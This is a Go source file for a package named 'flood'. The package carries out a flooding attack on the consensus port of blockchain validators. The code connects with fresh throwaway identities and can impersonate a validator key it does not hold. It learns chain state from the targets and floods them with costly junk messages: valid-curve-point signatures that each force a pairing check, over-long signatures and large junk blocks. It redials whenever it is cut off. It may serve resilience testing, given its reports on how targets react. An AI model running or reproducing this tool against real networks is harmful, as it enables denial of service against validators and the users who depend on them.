// Package flood is an outsider's attack on the consensus network (port 33001 of the validators): it connects
// as any host on the network can, speaks the transport's handshake by hand (as an observer, or claiming a
// validator key it does not hold), and floods each target with consensus messages that cost it work (see
// Kind). It learns what it needs from the targets themselves: the protocol from identify, the chain ID and
// genesis hash from their hello, the height and round from the Status they broadcast every second, the number
// of validators from their votes. Every dial is a new libp2p identity, as an attacker's identities are free;
// a target that cuts a connection off is dialed again after Config.Redial.
//
// Run reports, per target, what was sent and received, and how the target treated the outsider: sessions it
// ended, dials it refused, and whether it had the outsider cut off at the end.
package flood

import (
	"context"
	"encoding/hex"
	"errors"
	"fmt"
	"math/rand/v2"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"chain33node/consensus/qbft"
	"chain33node/crypto"
	"chain33node/netkit"

	"github.com/libp2p/go-libp2p/core/protocol"
	"golang.org/x/time/rate"
	"google.golang.org/protobuf/proto"
)

// Config is an attack.
type Config struct {
	Targets []string             // consensus addresses, ip:port
	Conns   int                  // connections (identities) to each target at once; 0 = 1
	Rates   [NumKinds]float64    // messages per second of each kind on each connection; 0 = that attack is off
	Claim   string               // "" observer; "target": the target's own validator key; "random": a fresh key; else a key in hex
	Points  bool                 // junk vote signatures are valid curve points (each costs a pairing), not random bytes
	Redial  time.Duration        // wait after a session ends or a dial fails; 0 = 1 s
	LongSig int                  // bytes of an over-long signature; 0 = 4096
	Block   int                  // bytes of a junk block's payload; 0 = 64 KiB
	Log     func(string, ...any) // progress; nil = quiet
}

// TargetReport is what happened with one target.
type TargetReport struct {
	Addr          string
	ChainID       string
	Height        int64            // the highest height it announced
	Sent          map[string]int64 // messages by attack
	BytesSent     int64
	MsgsReceived  int64
	BytesReceived int64
	Dials         int      // attempts
	Sessions      int      // handshakes completed
	EndedByTarget int      // sessions the target reset or closed
	Refused       int      // dials that failed (TCP, libp2p or consensus handshake)
	LastRefusal   string   // the last dial error
	Endings       []string // how sessions ended (the first few)
	Connected     float64  // seconds with at least one session
	// FirstCutOff is the seconds from the start to the first session the target ended; -1 if none.
	FirstCutOff float64
	// CutOff: when the attack ended the outsider had no session with the target, and every dial since the
	// target last ended one (or since the start) failed: the target bans it.
	CutOff bool
}

// Report is the outcome of a run.
type Report struct {
	Seconds float64
	Targets []TargetReport
}

const maxEndings = 8

// target is one target's state, shared by its connections.
type target struct {
	addr  string
	start time.Time

	mu       sync.Mutex
	rep      TargetReport
	proto    protocol.ID
	key      []byte // its validator key, from its hello
	open     int    // sessions now
	upSince  time.Time
	upTotal  time.Duration
	failing  bool // no handshake succeeded since the target last ended a session
	endedAny bool
	aliveEnd bool // a session was still up when the attack ended

	height, round, validators atomic.Int64
	sent                      [NumKinds]atomic.Int64
	bytesSent, msgs, bytesIn  atomic.Int64
}

// Run attacks until ctx ends and reports.
func Run(ctx context.Context, cfg Config) (*Report, error) {
	if len(cfg.Targets) == 0 {
		return nil, errors.New("no targets")
	}
	cfg.Conns = max(cfg.Conns, 1)
	if cfg.Redial <= 0 {
		cfg.Redial = time.Second
	}
	if cfg.LongSig <= 0 {
		cfg.LongSig = 4096
	}
	if cfg.Block <= 0 {
		cfg.Block = 64 << 10
	}
	if cfg.Log == nil {
		cfg.Log = func(string, ...any) {}
	}
	var fixedClaim []byte
	switch cfg.Claim {
	case "", "target", "random":
	default:
		k, err := hex.DecodeString(strings.TrimPrefix(cfg.Claim, "0x"))
		if err != nil || len(k) != crypto.BLSPubKeySize {
			return nil, fmt.Errorf("claim %q: not \"target\", \"random\" or a %d-byte key in hex", cfg.Claim, crypto.BLSPubKeySize)
		}
		fixedClaim = k
	}
	start := time.Now()
	var wg sync.WaitGroup
	targets := make([]*target, len(cfg.Targets))
	for i, addr := range cfg.Targets {
		t := &target{addr: addr, start: start, failing: true}
		t.rep = TargetReport{Addr: addr, FirstCutOff: -1}
		targets[i] = t
		for c := range cfg.Conns {
			wg.Add(1)
			go func() {
				defer wg.Done()
				t.connection(ctx, cfg, fixedClaim, uint64(i*1000+c))
			}()
		}
	}
	wg.Wait()
	rep := &Report{Seconds: time.Since(start).Seconds()}
	for _, t := range targets {
		rep.Targets = append(rep.Targets, t.report())
	}
	return rep, nil
}

// connection keeps one connection slot busy: dial, flood until the session
// ends, wait, dial again, until ctx ends.
func (t *target) connection(ctx context.Context, cfg Config, fixedClaim []byte, seed uint64) {
	r := rand.New(rand.NewPCG(seed, uint64(time.Now().UnixNano())))
	b := &builder{r: r, sigs: junkSigs(r, cfg.Points, 64), longSigBytes: cfg.LongSig, blockBytes: cfg.Block}
	for ctx.Err() == nil {
		claim := fixedClaim
		switch cfg.Claim {
		case "random":
			claim = crypto.GenerateBLSKey().PubKey().Bytes()
		case "target":
			t.mu.Lock()
			claim = t.key // nil until a hello told it
			t.mu.Unlock()
		}
		t.mu.Lock()
		t.rep.Dials++
		proto := t.proto
		t.mu.Unlock()
		s, proto, err := dial(ctx, t.addr, claim, proto)
		if err != nil {
			if ctx.Err() == nil {
				t.refused(err)
				cfg.Log("%s: dial: %v", t.addr, err)
			}
			netkit.Sleep(ctx, cfg.Redial)
			continue
		}
		t.up(s, proto)
		if cfg.Claim == "target" && claim == nil {
			// This dial only learned the key to claim from the target's hello.
			s.close()
			t.down(nil, probeDone)
			continue
		}
		ended := t.flood(ctx, cfg, s, b)
		s.close()
		how := endedByTarget
		if ctx.Err() != nil {
			how = attackOver
		}
		t.down(ended, how)
		if ctx.Err() == nil {
			cfg.Log("%s: session ended: %v", t.addr, ended)
			netkit.Sleep(ctx, cfg.Redial)
		}
	}
}

// flood sends the configured attacks on s until the target ends the session
// (its error is returned) or ctx ends (nil).
func (t *target) flood(ctx context.Context, cfg Config, s *session, b *builder) error {
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	var once sync.Once
	var ended error
	end := func(err error) {
		once.Do(func() { ended = err })
		cancel()
	}
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		end(t.read(s))
	}()
	var wmu sync.Mutex
	var bmu sync.Mutex // the builder's random source is not safe for concurrent use
	for k, perSec := range cfg.Rates {
		if perSec <= 0 {
			continue
		}
		kind := Kind(k)
		lim := rate.NewLimiter(rate.Limit(perSec), max(1, int(perSec/10)))
		wg.Add(1)
		go func() {
			defer wg.Done()
			for lim.Wait(ctx) == nil {
				v := t.view()
				if v.height == 0 && kind != Catchup && kind != Garbage {
					continue // the height is not known yet (the first Status comes within a second)
				}
				bmu.Lock()
				msg := b.message(kind, v)
				bmu.Unlock()
				wmu.Lock()
				_ = s.stream.SetWriteDeadline(time.Now().Add(10 * time.Second))
				err := netkit.WriteFrame(s.stream, msg)
				wmu.Unlock()
				if err != nil {
					end(fmt.Errorf("write: %w", err))
					return
				}
				t.sent[kind].Add(1)
				t.bytesSent.Add(int64(len(msg)))
			}
		}()
	}
	<-ctx.Done()
	s.stream.Reset() // ends the reader
	wg.Wait()
	return ended
}

// read consumes what the target sends, learning its height, round and
// validators, until the stream ends.
func (t *target) read(s *session) error {
	for {
		raw, err := netkit.ReadFrame(s.br, 256<<20)
		if err != nil {
			return err
		}
		t.msgs.Add(1)
		t.bytesIn.Add(int64(len(raw)))
		m := &qbft.Message{}
		if proto.Unmarshal(raw, m) != nil {
			continue
		}
		switch {
		case m.GetStatus() != nil:
			st := m.GetStatus()
			if st.Height > t.height.Load() || st.Height == t.height.Load() && int64(st.Round) > t.round.Load() {
				t.height.Store(st.Height)
				t.round.Store(int64(st.Round))
			}
		case m.GetVote() != nil:
			if n := int64(m.GetVote().ValidatorIndex) + 1; n > t.validators.Load() && n <= 1<<16 {
				t.validators.Store(n)
			}
		}
	}
}

func (t *target) view() view {
	return view{height: t.height.Load(), round: int32(t.round.Load()), validators: int(t.validators.Load())}
}

func (t *target) refused(err error) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.rep.Refused++
	t.rep.LastRefusal = err.Error()
}

func (t *target) up(s *session, proto protocol.ID) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.proto = proto
	if len(s.remote.nodeKey) > 0 {
		t.key = s.remote.nodeKey
	}
	t.rep.ChainID = s.remote.chainID
	t.rep.Sessions++
	if t.open == 0 {
		t.upSince = time.Now()
	}
	t.open++
	t.failing = false
}

// ending is who ended a session.
type ending int

const (
	endedByTarget ending = iota
	attackOver
	probeDone // a session that only learned the key to claim
)

// down records the end of a session.
func (t *target) down(err error, how ending) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.open--
	if t.open == 0 {
		t.upTotal += time.Since(t.upSince)
	}
	switch how {
	case attackOver:
		t.aliveEnd = true
		return
	case probeDone: // only learned the key: no attack session succeeded
		t.failing = true
		return
	}
	t.rep.EndedByTarget++
	t.endedAny, t.failing = true, true
	if t.rep.FirstCutOff < 0 {
		t.rep.FirstCutOff = time.Since(t.start).Seconds()
	}
	if len(t.rep.Endings) < maxEndings {
		t.rep.Endings = append(t.rep.Endings, fmt.Sprintf("at %.1f s: %v", time.Since(t.start).Seconds(), err))
	}
}

func (t *target) report() TargetReport {
	t.mu.Lock()
	defer t.mu.Unlock()
	r := t.rep
	r.Height = t.height.Load()
	r.Sent = map[string]int64{}
	for k := range NumKinds {
		if n := t.sent[k].Load(); n > 0 {
			r.Sent[k.String()] = n
		}
	}
	r.BytesSent, r.MsgsReceived, r.BytesReceived = t.bytesSent.Load(), t.msgs.Load(), t.bytesIn.Load()
	r.Connected = t.upTotal.Seconds()
	r.CutOff = !t.aliveEnd && t.failing && (t.endedAny || r.Refused > 0)
	return r
}
